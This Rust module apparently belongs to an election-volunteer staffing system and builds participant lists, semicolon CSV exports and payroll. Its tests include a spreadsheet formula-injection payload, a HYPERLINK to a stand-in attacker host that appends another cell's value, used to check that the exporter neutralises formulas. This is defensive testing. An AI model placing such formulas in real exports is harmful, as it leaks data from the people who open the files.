//! Participant lists: who is on which seat, with the columns a coordinator
//! picks, for the screen, CSV and spreadsheets; and payroll per person.

use super::seats::{Attendance, SeatStatus};
use super::Id;
use chrono::{NaiveDate, NaiveTime};
use serde::{Deserialize, Serialize};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum Column {
    Name,
    Team,
    Station,
    Area,
    TaskType,
    Date,
    Times,
    Status,
    Phone,
    Email,
    /// Their home address; "beskyttet adresse" where CPR protects it.
    Address,
    Diets,
    Payment,
    Attendance,
}

impl Column {
    pub const ALL: [Column; 14] = [
        Self::Name,
        Self::Team,
        Self::Station,
        Self::Area,
        Self::TaskType,
        Self::Date,
        Self::Times,
        Self::Status,
        Self::Phone,
        Self::Email,
        Self::Address,
        Self::Diets,
        Self::Payment,
        Self::Attendance,
    ];

    /// What a list shows when nobody picked columns.
    pub const DEFAULT: [Column; 6] = [
        Self::Name,
        Self::Station,
        Self::TaskType,
        Self::Date,
        Self::Times,
        Self::Status,
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            Self::Name => "name",
            Self::Team => "team",
            Self::Station => "station",
            Self::Area => "area",
            Self::TaskType => "task_type",
            Self::Date => "date",
            Self::Times => "times",
            Self::Status => "status",
            Self::Phone => "phone",
            Self::Email => "email",
            Self::Address => "address",
            Self::Diets => "diets",
            Self::Payment => "payment",
            Self::Attendance => "attendance",
        }
    }

    pub fn parse(raw: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|c| c.as_str() == raw)
    }

    /// Columns with contact data: only for those who see everyone's.
    pub fn is_contact(self) -> bool {
        matches!(self, Self::Phone | Self::Email | Self::Address)
    }

    /// The locale key of the column's heading.
    pub fn key(self) -> String {
        format!("lists.col.{}", self.as_str())
    }
}

/// The columns named in a comma-separated list, in the given order;
/// unknown names are an error, an empty list means the default.
pub fn parse_columns(raw: &str) -> Option<Vec<Column>> {
    let mut columns = Vec::new();
    for name in raw.split(',').map(str::trim).filter(|n| !n.is_empty()) {
        let column = Column::parse(name)?;
        if !columns.contains(&column) {
            columns.push(column);
        }
    }
    if columns.is_empty() {
        columns = Column::DEFAULT.to_vec();
    }
    Some(columns)
}

/// Which seats a list covers (people on them); `None` means any.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct ListFilter {
    pub election_id: Id,
    pub day: Option<NaiveDate>,
    pub area: Option<Id>,
    pub station: Option<Id>,
    pub team: Option<Id>,
    pub task_type: Option<Id>,
    pub status: Option<SeatStatus>,
    /// Only stations in these areas (an area-limited coordinator's reach).
    pub within_areas: Option<Vec<Id>>,
}

/// A person on a seat.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Participant {
    pub seat_id: Id,
    pub volunteer_id: Id,
    pub name: String,
    pub team: String,
    pub station: String,
    /// The station's district number ("afstemningsområde").
    pub district: i64,
    pub area: String,
    pub task_type: String,
    pub birth_date: NaiveDate,
    pub day: NaiveDate,
    pub start_time: NaiveTime,
    pub end_time: NaiveTime,
    pub status: SeatStatus,
    pub phone: String,
    pub email: String,
    pub address: String,
    pub postal_code: String,
    pub city: String,
    /// CPR protects their address: no list or file shows it.
    pub address_protected: bool,
    pub diets: String,
    pub payment_dkk: i64,
    pub attendance: Option<Attendance>,
    /// When the seat was accepted (unix seconds), if it was.
    pub accepted_at: Option<i64>,
}

impl Participant {
    /// The value of one column, with `word` for translated words.
    pub fn cell(&self, column: Column, word: &dyn Fn(&str) -> String) -> String {
        match column {
            Column::Name => self.name.clone(),
            Column::Team => self.team.clone(),
            Column::Station => self.station.clone(),
            Column::Area => self.area.clone(),
            Column::TaskType => self.task_type.clone(),
            Column::Date => self.day.to_string(),
            Column::Times => format!(
                "{}–{}",
                self.start_time.format("%H:%M"),
                self.end_time.format("%H:%M")
            ),
            Column::Status => word(&format!("status.{}", self.status.as_str())),
            Column::Phone => self.phone.clone(),
            Column::Email => self.email.clone(),
            Column::Address => crate::domain::volunteers::shown_address(
                self.address_protected,
                &self.address,
                &self.postal_code,
                &self.city,
                word,
            ),
            Column::Diets => self.diets.clone(),
            Column::Payment => self.payment_dkk.to_string(),
            Column::Attendance => self
                .attendance
                .map(|a| word(&format!("checkin.{}", a.as_str())))
                .unwrap_or_default(),
        }
    }
}

/// A cell a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, also
/// after blanks, tabs or line breaks) gets a leading `'`, so it shows as text.
/// A plain signed number (`+4512345678`, `-3`) is no formula and stays.
pub fn defuse_formula(value: &str) -> std::borrow::Cow<'_, str> {
    // Spreadsheets skip leading blanks (and the writer turns control
    // characters into blanks) before they look for a formula.
    let trimmed = value.trim_start_matches(|c: char| c.is_whitespace() || c.is_control());
    let risky = trimmed.starts_with(['=', '+', '-', '@']);
    let signed_number = trimmed.len() > 1
        && trimmed.starts_with(['+', '-'])
        && trimmed[1..]
            .chars()
            .all(|c| c.is_ascii_digit() || c == ' ' || c == '.' || c == ',');
    if risky && !signed_number {
        std::borrow::Cow::Owned(format!("'{value}"))
    } else {
        std::borrow::Cow::Borrowed(value)
    }
}

/// A CSV file as Danish spreadsheets open it: semicolons between fields,
/// quotes where needed, no formulas from anyone's text, and a byte-order
/// mark so Excel reads UTF-8.
pub fn to_csv(headers: &[String], rows: &[Vec<String>]) -> String {
    fn field(value: &str) -> String {
        // One record, one line: a line break in someone's text is a space.
        let value: String = defuse_formula(value)
            .chars()
            .map(|c| if c.is_control() { ' ' } else { c })
            .collect();
        if value.contains([';', '"']) {
            format!("\"{}\"", value.replace('"', "\"\""))
        } else {
            value
        }
    }
    let line = |cells: &[String]| cells.iter().map(|c| field(c)).collect::<Vec<_>>().join(";");
    let mut out = String::from("\u{feff}");
    out.push_str(&line(headers));
    out.push_str("\r\n");
    for row in rows {
        out.push_str(&line(row));
        out.push_str("\r\n");
    }
    out
}

/// One person's pay: their accepted shifts that they turned up for (or
/// that nobody marked), and the sum.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PayLine {
    pub volunteer_id: Id,
    pub name: String,
    pub shifts: i64,
    pub total_dkk: i64,
}

/// Payroll from a list, per person: seats accepted before their shift
/// began, or that the station checked in as there; no-shows left out.
pub fn payroll(participants: &[Participant]) -> Vec<PayLine> {
    let mut lines: Vec<PayLine> = Vec::new();
    for p in participants {
        if p.status != SeatStatus::Accepted || p.attendance == Some(Attendance::NoShow) {
            continue;
        }
        let starts = crate::i18n::copenhagen_to_unix(p.day, p.start_time);
        let in_time = p.accepted_at.is_some_and(|at| at < starts);
        let checked_in = matches!(p.attendance, Some(Attendance::Arrived | Attendance::Late));
        if !in_time && !checked_in {
            continue;
        }
        match lines.iter_mut().find(|l| l.volunteer_id == p.volunteer_id) {
            Some(line) => {
                line.shifts += 1;
                line.total_dkk += p.payment_dkk;
            }
            None => lines.push(PayLine {
                volunteer_id: p.volunteer_id,
                name: p.name.clone(),
                shifts: 1,
                total_dkk: p.payment_dkk,
            }),
        }
    }
    lines.sort_by(|a, b| a.name.cmp(&b.name));
    lines
}

#[cfg(test)]
mod tests {
    use super::*;

    fn accepted(volunteer_id: Id, accepted_at: i64, attendance: Option<Attendance>) -> Participant {
        Participant {
            seat_id: volunteer_id,
            volunteer_id,
            name: format!("Person {volunteer_id}"),
            team: String::new(),
            station: String::new(),
            district: 1,
            area: String::new(),
            task_type: String::new(),
            birth_date: NaiveDate::from_ymd_opt(1970, 1, 1).unwrap(),
            day: NaiveDate::from_ymd_opt(2027, 5, 4).unwrap(),
            start_time: NaiveTime::from_hms_opt(7, 0, 0).unwrap(),
            end_time: NaiveTime::from_hms_opt(20, 0, 0).unwrap(),
            status: SeatStatus::Accepted,
            phone: String::new(),
            email: String::new(),
            address: String::new(),
            postal_code: String::new(),
            city: String::new(),
            address_protected: false,
            diets: String::new(),
            payment_dkk: 800,
            attendance,
            accepted_at: Some(accepted_at),
        }
    }

    #[test]
    fn payroll_pays_seats_taken_before_the_shift_or_checked_in_on_the_day() {
        let day = NaiveDate::from_ymd_opt(2027, 5, 4).unwrap();
        let starts =
            crate::i18n::copenhagen_to_unix(day, NaiveTime::from_hms_opt(7, 0, 0).unwrap());
        let lines = payroll(&[
            accepted(1, starts - 86_400, None),
            accepted(2, starts + 3_600, None),
            accepted(3, starts + 3_600, Some(Attendance::Arrived)),
            accepted(4, starts - 86_400, Some(Attendance::NoShow)),
        ]);
        let paid: Vec<Id> = lines.iter().map(|l| l.volunteer_id).collect();
        assert_eq!(
            paid,
            vec![1, 3],
            "2 took the seat after the start, 4 did not come"
        );
    }

    #[test]
    fn columns_parse_in_order_and_the_empty_list_means_the_default() {
        assert_eq!(
            parse_columns("email, name,email"),
            Some(vec![Column::Email, Column::Name])
        );
        assert_eq!(parse_columns(""), Some(Column::DEFAULT.to_vec()));
        assert_eq!(parse_columns("name,salary"), None);
    }

    #[test]
    fn csv_quotes_what_needs_it_and_starts_with_a_bom() {
        let csv = to_csv(
            &["Navn".into(), "Note".into()],
            &[vec!["Jensen; Karen".into(), "sagde \"ja\"".into()]],
        );
        assert_eq!(
            csv,
            "\u{feff}Navn;Note\r\n\"Jensen; Karen\";\"sagde \"\"ja\"\"\"\r\n"
        );
    }

    #[test]
    fn csv_cells_that_a_spreadsheet_would_run_are_text() {
        let cell = |v: &str| {
            let csv = to_csv(&[], &[vec![v.to_string()]]);
            csv.trim_start_matches("\u{feff}\r\n")
                .trim_end_matches("\r\n")
                .to_string()
        };
        assert_eq!(
            cell("=HYPERLINK(\"https://evil.example/?d=\"&B2;\"Løn\")"),
            "\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&B2;\"\"Løn\"\")\""
        );
        assert_eq!(cell("+SUM(A1)"), "'+SUM(A1)");
        assert_eq!(cell("-2+3"), "'-2+3");
        assert_eq!(cell("@cmd"), "'@cmd");
        // Control characters become spaces: one record stays one line.
        assert_eq!(cell("\t=1"), "' =1");
        assert_eq!(cell("\r=1"), "' =1");
        assert_eq!(cell("  =1"), "'  =1");
        assert_eq!(cell("Karen\r\nJensen"), "Karen  Jensen");
        // Phone numbers and plain numbers stay as they are.
        assert_eq!(cell("+4512345678"), "+4512345678");
        assert_eq!(cell("-150"), "-150");
        assert_eq!(cell("Karen = chef"), "Karen = chef");
    }
}
